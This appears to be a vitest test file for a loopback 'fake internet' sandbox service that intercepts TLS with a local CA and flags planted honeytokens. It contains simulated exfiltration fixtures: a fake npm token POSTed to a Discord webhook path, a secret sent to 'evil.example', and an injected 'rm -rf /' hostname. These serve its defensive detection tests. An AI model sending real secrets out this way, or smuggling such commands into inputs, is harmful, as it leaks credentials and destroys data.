/**
 * TLS interception end to end on loopback: a real CA made by the image's own make-ca.sh (openssl), the
 * real service, and Node's HTTPS client, which trusts the CA or not. Nothing leaves 127.0.0.1.
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { request } from 'node:https';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { NetworkLogLine, TcpRecord } from '@airlock/core';
import { fileAuthority } from '../src/tls-intercept.js';
import { startFakeInternet } from '../src/service.js';

const work = mkdtempSync(join(tmpdir(), 'airlock-tls-'));
const tlsDir = join(work, 'tls');
const logFile = join(work, 'network.jsonl');
let service: Awaited<ReturnType<typeof startFakeInternet>>;

beforeAll(async () => {
  execFileSync('sh', [resolve(__dirname, '../../../sandbox-images/fake-internet/make-ca.sh'), tlsDir]);
  service = await startFakeInternet({
    logFile,
    dnsPort: 0,
    tcpPort: 0,
    udpPort: 0,
    captureBytes: 64 * 1024,
    idleMs: 5000,
    authority: fileAuthority(tlsDir),
    conntrackEvents: false,
    tokens: [{ id: 'npm-token-1', kind: 'npm-token', value: 'npm_AbC123' }],
  });
});
afterAll(() => rmSync(work, { recursive: true, force: true }));

/** An HTTPS POST to the sink as if to `host`; resolves with the answer or the client's error. */
function post(host: string, body: string, ca?: string): Promise<{ status: number; text: string } | { error: string }> {
  return new Promise((done) => {
    const req = request(
      {
        host: '127.0.0.1',
        port: service.tcpPort,
        servername: host,
        method: 'POST',
        path: '/api/webhooks/123/abc',
        headers: { host, 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) },
        ...(ca ? { ca } : {}),
      },
      (res) => {
        let text = '';
        res.on('data', (chunk: Buffer) => (text += chunk.toString()));
        res.on('end', () => done({ status: res.statusCode ?? 0, text }));
      },
    );
    req.on('error', (err: NodeJS.ErrnoException) => done({ error: err.code ?? err.message }));
    req.end(body);
  });
}

const logLines = () =>
  readFileSync(logFile, 'utf8')
    .trim()
    .split('\n')
    .map((l) => JSON.parse(l) as NetworkLogLine);
/** One record per connection: its lines folded (first bytes concatenated, the latest summaries). */
const tcpRecords = (): TcpRecord[] => {
  const flows = new Map<number, TcpRecord>();
  for (const line of logLines()) {
    if (line.kind !== 'tcp') continue;
    const { flow, final: _final, ...record } = line;
    const known = flows.get(flow);
    if (!known) flows.set(flow, record);
    else {
      const first = Buffer.concat([Buffer.from(known.firstBytes, 'base64'), Buffer.from(record.firstBytes, 'base64')]);
      flows.set(flow, {
        ...known,
        ...record,
        http: record.http ?? known.http,
        tls: record.tls ?? known.tls,
        firstBytes: first.toString('base64'),
      });
    }
  }
  return [...flows.values()];
};

describe('TLS interception with the run CA', () => {
  it('decrypts and answers an HTTPS request from a client that trusts the run CA, and records its body', async () => {
    const answer = await post('discord.com', '{"content":"npm_AbC123"}', readFileSync(join(tlsDir, 'ca.crt'), 'utf8'));
    expect(answer).toEqual({ status: 200, text: '{"ok":true}\n' });
    const untrusted = await post('evil.example', '{"secret":1}');
    expect(untrusted).toHaveProperty('error');
    expect((untrusted as { error: string }).error).toMatch(/UNABLE_TO_VERIFY|SELF_SIGNED|UNABLE_TO_GET_ISSUER/);
    await service.stop();

    const [trusted, refused] = tcpRecords();
    expect(trusted).toMatchObject({ protocol: 'tls', tls: { sni: 'discord.com', intercepted: true } });
    expect(trusted!.http).toMatchObject({
      method: 'POST',
      target: '/api/webhooks/123/abc',
      host: 'discord.com',
      body: '{"content":"npm_AbC123"}',
      complete: true,
    });
    // The raw bytes stay encrypted; the body is only readable from the decrypted request.
    expect(Buffer.from(trusted!.firstBytes, 'base64').toString('latin1')).not.toContain('npm_AbC123');
    expect(refused).toMatchObject({ protocol: 'tls', tls: { sni: 'evil.example', intercepted: false }, http: null });
    // The service's own search of the decrypted flow found the planted value in the body.
    expect(logLines().filter((l) => l.kind === 'honeytoken')).toEqual([
      expect.objectContaining({ tokenId: 'npm-token-1', channel: 'http', encoding: 'raw', destination: '?:?' }),
    ]);
    expect(logLines().filter((l) => l.kind === 'failure')).toEqual([]);
    expect(logLines().at(-1)).toMatchObject({ kind: 'stats', connectionsDropped: 0, destinationsUnknown: 2 });
  });

  it('issues certificates only for DNS names and IP literals', async () => {
    const authority = fileAuthority(tlsDir);
    expect(await authority.contextFor('bad name;rm -rf /')).toBeNull();
    expect(await authority.contextFor('-subj')).toBeNull();
    expect(await authority.contextFor('203.0.113.7')).not.toBeNull();
    expect(await authority.contextFor('api.github.com')).not.toBeNull();
  });
});
